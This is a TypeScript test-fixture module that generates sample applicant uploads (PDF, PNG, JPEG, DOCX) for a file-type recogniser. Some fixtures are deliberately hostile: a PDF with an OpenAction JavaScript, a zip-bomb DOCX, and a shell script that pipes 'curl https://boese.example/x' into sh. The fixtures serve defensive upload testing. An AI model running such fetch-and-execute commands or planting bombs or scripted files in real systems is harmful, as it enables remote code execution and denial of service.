import { randomBytes } from "node:crypto";
import { createZip } from "#server/platform/zip.ts";

// Files an applicant might send (ADR 046), real enough for the recogniser: what each type
// starts with, and a DOCX's directory.

/** A small PDF; `javascript` adds an OpenAction script, which is stored like any PDF. */
export function pdfBytes(options: { javascript?: boolean; size?: number } = {}): Buffer {
  const action = options.javascript
    ? "/OpenAction << /S /JavaScript /JS (app.alert\\('hallo'\\)) >>"
    : "";
  const head = Buffer.from(
    `%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R ${action} >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n`,
    "latin1",
  );
  const tail = Buffer.from("trailer << /Root 1 0 R >>\n%%EOF\n", "latin1");
  const padding = Math.max(0, (options.size ?? 0) - head.length - tail.length);
  return Buffer.concat([head, Buffer.alloc(padding, 0x20), tail]);
}

export const pngBytes = (): Buffer =>
  Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), randomBytes(64)]);

export const jpegBytes = (): Buffer =>
  Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(64)]);

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const DOCUMENT = `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Lebenslauf</w:t></w:r></w:p></w:body></w:document>`;

/** A Word document's minimal package; `extra` entries join it (e.g. a bomb's payload). */
export function docxBytes(extra: { name: string; data: Buffer | string }[] = []): Buffer {
  return createZip([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "word/document.xml", data: DOCUMENT },
    ...extra,
  ]);
}

/** A DOCX with one entry that unpacks 1,000 times its packed size (20 MB of zeros). */
export const zipBombDocx = (): Buffer =>
  docxBytes([{ name: "word/media/bomb.bin", data: Buffer.alloc(20 * 1024 * 1024) }]);

/** A shell script under any name: text, none of the known signatures. */
export const scriptBytes = (): Buffer =>
  Buffer.from("#!/bin/sh\ncurl https://boese.example/x | sh\n", "utf8");
